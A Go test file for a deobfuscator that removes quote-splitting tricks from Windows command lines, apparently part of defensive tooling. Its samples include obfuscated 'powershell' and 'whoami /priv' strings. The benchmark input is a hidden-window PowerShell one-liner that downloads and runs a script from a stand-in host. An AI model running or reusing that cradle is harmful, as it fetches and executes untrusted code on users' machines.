package deobfuscate

import "testing"

func TestCmdQuotes(t *testing.T) {
	runTransformTable(t, CmdQuotes, []transformCase{
		{"split program name", `p"o"wer"sh"ell -nop`, `powershell -nop`, true},
		{"adjacent pairs", `cmd /c "p""o""w""e""r""s""h""e""l""l" -c calc`, `cmd /c powershell -c calc`, true},
		{"adjacent pairs as a word", `"p""o""w""e""r"shell -c calc`, `powershell -c calc`, true},
		{"empty pair", `who""ami /priv`, `whoami /priv`, true},
		{"quoted path", `dir "C:\Program Files"`, `dir "C:\Program Files"`, false},
		{"quoted message", `git commit -m "fix: a^b"`, `git commit -m "fix: a^b"`, false},
		{"option value", `--name="x"`, `--name="x"`, false},
		{"plain echo", `echo "hello world"`, `echo "hello world"`, false},
		{"quoted path joined to a file", `"C:\Windows"\system32\calc.exe`, `"C:\Windows"\system32\calc.exe`, false},
		{"unbalanced", `a"b`, `a"b`, false},
	})
}

func FuzzCmdQuotes(f *testing.F) {
	fuzzTransform(f, CmdQuotes, `p"o"wer"sh"ell`, `""""`, `"a b"c"`, `x"`)
}

func BenchmarkCmdQuotes(b *testing.B) {
	benchTransform(b, CmdQuotes, `cmd /c p"o"wer"sh"ell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"`)
}
